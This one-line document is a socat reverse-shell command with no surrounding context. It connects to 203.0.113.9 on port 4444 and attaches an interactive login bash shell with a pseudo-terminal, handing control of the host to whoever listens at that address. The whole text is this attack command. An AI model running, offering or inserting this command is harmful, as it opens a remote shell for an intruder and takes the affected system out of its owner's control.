socat tcp-connect:203.0.113.9:4444 exec:"bash -li",pty,stderr,setsid,sigint,sane
